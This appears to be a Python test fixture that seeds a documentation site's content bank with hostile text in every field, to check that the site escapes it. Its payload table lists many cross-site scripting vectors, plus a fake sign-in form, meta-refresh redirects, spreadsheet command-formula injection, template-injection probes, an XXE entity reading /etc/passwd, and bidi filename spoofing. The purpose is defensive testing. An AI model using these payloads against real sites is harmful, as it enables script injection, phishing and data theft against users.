# ruff: noqa: E501  (hostile texts are as long as they are)
"""What people have sent to make a page run their script, and where in a bank they could send it.

``PAYLOADS`` are texts; ``bank_of`` writes a bank that has one record of each kind for each of them, with the text in every
field that takes text.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from pathlib import Path

from build_tools import scaffold
from tests.checks.support import png
from tests.conftest import add

PAYLOADS: Mapping[str, str] = {
    "script": "<script>window.ran=1</script>",
    "script-broken": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "script-slash": "<script/x src=//x.example/a.js></script/y>",
    "end-title": "</title><script>window.ran=1</script>",
    "end-script": "</script><script>window.ran=1</script>",
    "end-style": "</style></textarea></noscript><img src=x onerror=window.ran=1>",
    "attribute": "\" onmouseover=\"window.ran=1\" autofocus onfocus=\"window.ran=1\" x=\"",
    "attribute-single": "' onclick='window.ran=1' style='position:fixed;inset:0' x='",
    "attribute-bare": "x onload=window.ran=1 x=`>",
    "image": "<img src=x onerror=window.ran=1>",
    "image-backtick": "<img src=`x`onerror=window.ran=1 alt=``>",
    "image-elsewhere": "<img src=\"https://x.example/pixel.png\" width=1>",
    "vector": "<svg/onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "vector-object": "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></foreignObject></svg>",
    "vector-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "maths": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran=1&gt;\">",
    "mutation-noscript": "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "mutation-table": "<table><td background='javascript:window.ran=1'><form><button formaction=javascript:window.ran=1>",
    "mutation-select": "<select><style></select><img src=x onerror=window.ran=1></style>",
    "template": "<template><script>window.ran=1</script></template><xmp><plaintext>",
    "javascript": "[x](javascript:window.ran=1) <javascript:window.ran=1>",
    "javascript-entities": "[x](&#106;avascript&colon;window.ran=1) [y](&#x6A;&#x61;vascript:window.ran=1)",
    "javascript-tabs": "[x](<java\tscript:window.ran=1>) [y](java&#9;script:window.ran=1) [z](java&NewLine;script:1)",
    "javascript-reference": "[x][r]\n\n[r]: javascript:window.ran=1 \"x\"",
    "vbscript": "[x](vbscript:msgbox) ![x](VBSCRIPT:x) [y](file:///etc/passwd) [z](blob:x)",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+) ![x](data:image/svg+xml,<svg/onload=1>)",
    "elsewhere": "![x](https://x.example/pixel.png) ![y](//x.example/p.png) ![z](\\\\x.example/p) [w](//x.example)",
    "own-schemes": "[x](kb-file:../../../etc/passwd) ![y](kb-cite:x) [z](kb-link:%22onclick=1) [[x\"onclick=1]] [@x\"><b>]",
    "attribute-list": "# x {: onclick=window.ran=1 }\n\ntext{ onerror=window.ran=1 } [x](y){: style=\"position:fixed\" }",
    "style": "<style>@import '//x.example/a.css';body{display:none}</style><p style=\"position:fixed;inset:0\">Sign in</p>",
    "refresh": "<meta http-equiv=refresh content=\"0;url=https://x.example\"><base href=\"https://x.example/\">",
    "frames": "<iframe src=https://x.example></iframe><object data=x><embed src=x><applet><frameset><frame src=x>",
    "form": "<form action=https://x.example><input name=q type=password><button>Sign in</button></form>",
    "template-signs": "{{ 7*7 }} {{ config }} {% raw %} {% include 'x' %} {# x #} ${7*7} #{7*7} %(n)s {n} <%= 7*7 %>",
    "ends": "--> --!> <!-- ]]> <![CDATA[ x <?php 1 ?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;",
    "ends-of-ours": "-->\n```\n</div></article></main><!--kb x-->\n~~~\n<div id=kb-results>",
    "json-end": "\\u003cscript\\u003e \\\"});window.ran=1// \\x3cimg",
    "search-end": "\");window.ran=1;kbSearch.take(\"root\",{});//",
    "line-signs": "a\u2028window.ran=1\u2029b\u200bd\ufffde\u00a0f",
    "entities": "&lt;script&gt;window.ran=1&lt;/script&gt; &amp;lt; &#60;img&#62; &colon; &nbsp;",
    "formula": "=HYPERLINK(\"https://x.example\"&A1) +cmd|' /C calc'!A0 @SUM(1) -2+3",
    "wide": "＜script＞window.ran=1＜/script＞ ʺonclick=1 ‹img› ﹤b﹥",
    "share": "x&text=y%0Ahttps://x.example#\"><script>window.ran=1</script>",
}  # fmt: skip
REFUSED: Mapping[str, str] = {
    "bidi": "abc\u202egpj.exe\u202c",
    "isolate": "abc\u2066x\u2069",
    "nul": "abc\u0000<script>window.ran=1</script>",
    "escape": "abc\u001b[2J",
    "next-line": "abc\u0085x",
    "c1": "abc\u009bx",
}
PLAIN = "plain words"
VIDEO = "https://www.example.org/x"


def _q(value: object) -> str:
    """A value as YAML that holds exactly it: JSON is YAML."""
    return json.dumps(value, ensure_ascii=True)


def _front(fields: Mapping[str, object], body: str = "") -> str:
    return "---\n" + "".join(f"{name}: {_q(value)}\n" for name, value in fields.items()) + f"---\n{body}\n"


def _table(*rows: Mapping[str, str]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


class Marks:
    """Puts a mark before each text, ``zq`` with a number and the sink, so that each can be found where it ended."""

    def __init__(self, number: int, text: str) -> None:
        self.number, self.text = number, text
        self.made: list[str] = []

    def __call__(self, sink: str, lines: bool = False) -> str:
        text = self.text if lines else self.text.replace("\n", " ")
        self.made.append(sink)
        return f"zq{self.number:03}{sink} {text}"


COMMON = {"added": "2026-01-02", "regions": ["IN"], "licence": "CC-BY-4.0", "verified": True}


def records_of(root: Path, number: int, text: str) -> list[str]:
    """Writes a record of each kind with the text in all its fields; gives the names of the sinks."""
    m, n = Marks(number, text), f"{number:03}"
    source = {"title": m("srct"), "author": m("srca"), "publisher": m("srcp"), "note": m("srcn"), "pages": m("srcg")}
    common: dict[str, object] = {
        **COMMON, "themes": [f"t{n}"], "occupations": [f"o{n}"], "provenance": m("prov"), "sources": [source],
    }  # fmt: skip

    def front(sign: str, body: str, **fields: object) -> str:
        head = {"title": m(f"{sign}tit"), "summary": m(f"{sign}sum", True), **common, **fields}
        return _front(head, body)

    body = f"## Why\n\n{m('body', True)}\n\n## What\n\n![{m('alt')}](map.png)\n\n## How\n\n`{m('code')}`\n\n## Impact\n\nEnd.\n"
    soft = [{"title": m("soft"), "file": "form.txt"}, {"title": m("softu"), "url": VIDEO}]
    files = {
        f"content/case-studies/c{n}.md": front("c", body, period=m("peri"), translator=m("tran"), files=soft),
        f"content/guides/g{n}.md": front(
            "g", m("gbody", True), audience=[m("audi")], duration=m("dura"),
            steps=[{"title": m("stept"), "text": m("stepx", True), "outcome": m("stepo", True), "time": m("stepm")}],
        ),
        f"content/laws/l{n}.md": front(
            "l", m("lbody", True), kind="act", citation=m("lcit"), jurisdiction="IN", court=m("lcou"), status="in-force",
            status_note=m("lsta"), as_on="2026-01-01", url=VIDEO,
        ),
        f"content/toolkits/k{n}.md": front(
            "k", m("kbody", True), status=m("ksta"), contact=m("kcon"), audience=[m("kaud")],
            tools=[{"title": m("tool"), "kind": m("tkin"), "summary": m("tsum", True), "format": m("tfor"), "file": "form.txt"}],
        ),
        f"content/periodical/p{n}.md": front("p", m("pbody", True), number=number + 1),
        f"content/pages/page{n}.md": front("a", m("abody", True)),
        f"content/data/d{n}.yml": _front({
            "title": m("dtit"), "summary": m("dsum"), **common, "definition": m("ddef", True), "method": m("dmet"),
            "limits": m("dlim"), "columns": [
                {"name": "a", "title": m("dcol"), "unit": m("duni"), "definition": m("dcdf")},
                {"name": "b", "title": "B"}, {"name": "source", "title": "Source"}],
            "charts": [{"label": "a", "value": "b", "title": m("dcha")}],
        }).removeprefix("---\n").partition("---\n")[0],
        f"content/data/d{n}.csv": _table({"a": m("cell"), "b": "3", "source": m("csrc")}, {"a": "x", "b": "5", "source": "y"}),
        f"clippings/2019/n{n}.yml": _front({
            **{k: v for k, v in common.items() if k not in ("sources", "licence")}, "title": m("ntit"), "newspaper": m("nnew"),
            "byline": m("nbyl"), "dateline": m("ndat"), "date": "2019-01-02", "page": m("npag"),
            "transcribed": {"by": m("ntra"), "date": "2026-01-02"}, "checked": {"by": m("nchk"), "date": "2026-01-03"},
        }).removeprefix("---\n").partition("---\n")[0],
        f"clippings/2019/n{n}.txt": m("ntxt", True) + "\n",
    }  # fmt: skip
    paper = {
        "title": f"A clipping of {n}",
        "newspaper": f"n{n}",
        "themes": [f"t{n}"],
        "occupations": [f"o{n}"],
        "regions": ["IN"],
        "date": "2019",
    }
    files[f"clippings/2019/v{n}.yml"] = _front(paper).removeprefix("---\n").partition("---\n")[0]
    for path, content in files.items():
        add(root, path, content)
    for sign in "nv":
        (root / f"clippings/2019/{sign}{n}.png").write_bytes(png(700 + number, 600))
    return m.made


def tables_of(root: Path, texts: Mapping[int, str]) -> list[str]:
    """The vocabulary, the directory, the glossary and the bibliography, a row or entry for each text."""
    sinks: list[str] = []
    themes, jobs, needs, terms, people, papers, districts, entries = [], [], [], [], [], [], [], []
    for number, text in texts.items():
        m, n = Marks(number, text), f"{number:03}"
        fact = {"text": m("fact"), "year": 2001, "source": m("facs")}
        themes.append({"id": f"t{n}", "labels": {"en": m("thl")}, "definitions": {"en": m("thd")}, "facts": [fact]})
        jobs.append({"id": f"o{n}", "labels": {"en": m("ocl")}, "definitions": {"en": m("ocd")}})
        needs.append(
            {"id": f"w{n}", "labels": {"en": m("nel")}, "hints": {"en": m("neh")}, "leads": [f"c{n}", f"g{n}"]}
        )
        terms.append(
            {
                "id": f"term{n}",
                "title": m("tetit"),
                "acronym": m("teacr"),
                "definition": m("tedef"),
                "added": "2026-01-02",
            }
        )
        people.append({
            "id": f"org{n}", "title": m("ortit"), "acronym": m("oracr"), "level": "national", "kind": "ngo", "regions": f"IN|IN-RJ/x{n}",
            "activities": m("oract"), "services": m("orser"), "address": m("oradr"), "sources": "A record",
            "verified_on": "2026-01-01", "added": "2026-01-02",
        })  # fmt: skip
        papers.append(
            {"id": f"n{n}", "name": m("paper"), "native": m("papen"), "place": "", "editions": "", "bylines": ""}
        )
        districts.append({"id": f"IN-RJ/x{n}", "name_en": m("dist"), "seat_en": m("seat")})
        entries.append(entry_of(m, n))
        sinks += m.made
    add(root, "content/vocabulary/themes.yml", _q(themes))
    add(root, "content/vocabulary/occupations.yml", _q(jobs))
    add(root, "content/vocabulary/needs.yml", _q(needs))
    add(root, "content/glossary/terms.csv", _table(*terms))
    add(root, "content/directory/organisations.csv", _table(*people))
    add(root, "content/vocabulary/newspapers.csv", _table(*papers))
    add(root, "content/vocabulary/places/states.csv", "id,name_en\nIN-RJ,Rajasthan\n")
    add(root, "content/vocabulary/places/districts.csv", _table(*districts))
    points = [
        {"id": d["id"], "latitude": "26.9", "longitude": "75.8", "of": d["seat_en"], "source": d["name_en"]}
        for d in districts
    ]
    add(root, "content/vocabulary/places/points.csv", _table(*points))
    add(root, "content/vocabulary/places/tiles.csv", "id,column,row\nIN-RJ,1,1\n")
    add(root, "bibliography/all.bib", "\n".join(entries))
    return sinks


BIB_FIELDS = ("author", "title", "institution", "address", "note", "abstract", "series", "number", "type", "keywords")


def entry_of(m: Marks, n: str) -> str:
    """A BibTeX entry; a bracket that does not match would end it before the text is through."""

    def field(name: str) -> str:
        text = m(f"b{name[:4]}").replace("{", "(").replace("}", ")").replace("\\", "/")
        return f"  {name} = {{{{{text}}}}}," if name == "author" else f"  {name} = {{{text}}},"

    rows = "\n".join(field(name) for name in BIB_FIELDS)
    return f"@report{{b{n},\n{rows}\n  year = {{2001}},\n  url = {{{VIDEO}}},\n  added = {{2026-01-02}},\n  themes = {{t{n}}}\n}}\n"


SETTINGS_TEXT = (
    'zq999 </title><script>window.ran=1</script> " onmouseover="window.ran=1" \' {{ 7*7 }} {% raw %} --> ]]> '
    "<img src=x onerror=window.ran=1> &lt;b&gt; \u2028 <style>*{display:none}</style>"
)


def bank_of(root: Path, texts: Mapping[int, str], settings: str) -> list[str]:
    """A bank whose every text is hostile; gives the sinks, one for each text that was written."""
    assert not isinstance(scaffold.new_bank(root), str)
    for old in ("content/case-studies/school-garden.md", "content/guides/save-rain-water.md", "content/pages/about.md"):
        (root / old).unlink()
    for folder in ("case-studies", "toolkits"):
        add(root, f"content/{folder}/form.txt", "A form.\n")
    (root / "content/case-studies/map.png").write_bytes(png(30, 30))
    sinks = tables_of(root, texts)
    for number, text in texts.items():
        sinks += records_of(root, number, text)
    budgets = {"page": 500_000, "first_visit": 600_000, "first_search": 900_000, "picture": 500_000}
    bank = {
        "languages": ["en"], "home_country": "IN", "names": {"en": settings}, "tagline": {"en": settings},
        "notice": {"en": settings}, "budgets": budgets, "page_size": 1000, "ocr": {"quarantine": 0, "least_words": 0},
        "helplines": [{"number": "1098", "name": {"en": settings}}],
    }  # fmt: skip
    whole = {
        "site_name": settings, "site_description": settings, "copyright": settings, "extra": {"bank": bank},
        "site_url": "https://www.example.org/bank/", "repo_url": "https://www.example.org/forge",
    }  # fmt: skip
    add(root, "mkdocs.yml", _q(whole))
    return sinks
